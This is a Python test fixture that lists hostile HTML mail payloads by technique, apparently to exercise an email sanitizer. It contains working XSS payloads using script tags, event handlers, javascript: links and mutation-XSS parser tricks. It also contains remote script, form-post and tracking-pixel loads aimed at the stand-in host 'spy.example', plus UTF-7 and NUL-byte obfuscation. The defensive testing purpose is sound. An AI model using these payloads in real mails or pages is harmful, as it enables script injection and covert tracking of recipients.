"""HTML of mails that means harm, by what it tries."""

# ruff: noqa: E501

SPY = "http://spy.example"
OWN = "top.postMessage('owned','*');parent.document.title='owned';document.title='owned';alert(1)"
HOSTILE = {
    "script": f"<script>{OWN}</script>",
    "remote script": f"<script src={SPY}/x.js></script>",
    "svg onload": f'<svg onload="{OWN}"><script>{OWN}</script><animate onbegin="{OWN}" attributeName=x dur=1s>',
    "img onerror": f'<img src=x onerror="{OWN}"><img src="{SPY}/pixel.png"><img srcset="{SPY}/2x.png 2x">',
    "event handlers": f'<body onload="{OWN}"><details open ontoggle="{OWN}"><input autofocus onfocus="{OWN}">',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={SPY}/away">',
    "base": f'<base href="{SPY}/"><a href="x">x</a><img src="rel.png">',
    "form": f'<form action="{SPY}/post" id=f><input name=a value=b><button id=go>Go</button></form>',
    "css": f'<style>@import "{SPY}/a.css"; body{{background:url({SPY}/b.png)}} @font-face{{font-family:x;src:url({SPY}/f)}}'
    f' *{{font-family:x}}</style><link rel=stylesheet href="{SPY}/c.css"><p style="background:url({SPY}/d.png)">x</p>',
    "links ahead": f'<link rel=prefetch href="{SPY}/p"><link rel=dns-prefetch href="{SPY}"><link rel=preconnect href="{SPY}">',
    "frames": f'<iframe src="{SPY}/f"></iframe><iframe srcdoc="<script>{OWN}</script>"></iframe><object data="{SPY}/o">'
    f'</object><embed src="{SPY}/e">',
    "media": f'<video src="{SPY}/v" poster="{SPY}/p.png" autoplay></video><audio src="{SPY}/a" autoplay></audio>',
    "table background": f'<table background="{SPY}/t.png"><tr><td background="{SPY}/u.png">x</td></tr></table>',
    "javascript link": f'<a id=go href="javascript:{OWN}">x</a><a href="data:text/html,<script>{OWN}</script>">y</a>',
    "ping": f'<a id=go href="#" ping="{SPY}/ping">x</a>',
    "mutation 1": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    "mutation 2": f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
    "mutation 3": f'<svg></p><style><a id="</style><img src=1 onerror={OWN}>">',
    "mutation 4": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={OWN} src>\">",
    "mutation 5": f"<listing>&lt;img onerror=\"{OWN}\" src=x&gt;</listing><xmp><img src=x onerror='{OWN}'></xmp>",
    "template": f"<template><img src=x onerror='{OWN}'></template><select><template><img src=x onerror='{OWN}'>",
    "end of page": f"</body></html><script>{OWN}</script><plaintext><script>{OWN}</script>",
    "conditional": f"<!--[if true]><script>{OWN}</script><![endif]--><?xml version='1.0'?><![CDATA[<script>{OWN}</script>]]>",
    "open window": f"<a id=go target=_top href='{SPY}/top'>x</a><area href='{SPY}/area'>",
    "utf-7": f"+ADw-script+AD4-{OWN}+ADw-/script+AD4-",
    "nul in a tag": f"<scr\x00ipt>{OWN}</scr\x00ipt><img\x00src=x onerror={OWN}>",
}  # fmt: skip
